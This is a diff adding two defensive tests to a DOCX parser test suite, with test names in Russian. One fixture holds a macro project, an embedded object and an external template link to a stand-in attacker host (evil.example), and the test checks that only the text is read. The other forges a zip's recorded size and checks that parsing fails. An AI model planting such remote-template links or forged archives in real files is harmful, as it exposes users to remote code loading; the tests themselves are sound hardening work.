@@ -80,6 +80,28 @@ test('чего не перенести, названо', () => {
   expect(lost).toEqual(['картинки и надписи в рамках', 'колонтитулы: бланк ставит платформа']);
 });
 
+test('макросы, вложенные объекты и связи наружу остаются в файле: читаются одни слова', () => {
+  const { body, lost } = nodes(paragraph('Текст'), {
+    'word/vbaProject.bin': 'MZ',
+    'word/embeddings/oleObject1.bin': 'MZ',
+    'word/_rels/document.xml.rels':
+      '<Relationships><Relationship Id="r1" TargetMode="External" Target="http://evil.example/a.dotm"/></Relationships>',
+    'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r1"/></w:settings>',
+  });
+  expect(body).toEqual([{ type: 'paragraph', text: 'Текст', align: 'left' }, { type: 'stamp' }]);
+  expect(lost).toEqual(['макросы и вложенные объекты']);
+});
+
+test('размер, о котором архив солгал, не даёт развернуть больше', () => {
+  const file = docx(paragraph('я'.repeat(100_000)));
+  const view = new DataView(file.buffer, file.byteOffset);
+  for (let at = 0; at < file.length - 4; at += 1) {
+    // The size after unpacking, in the list of the archive.
+    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 10, true);
+  }
+  expect(() => templateOf(openDocx(file))).toThrow(/оборвано|повреждено|DOCX/);
+});
+
 test.each<[string, Uint8Array, string]>([
   ['не архив', bytes('это не docx'), 'Это не документ DOCX'],
   ['архив без документа', zipSync({ 'a.txt': bytes('a') }), 'Это не документ DOCX'],
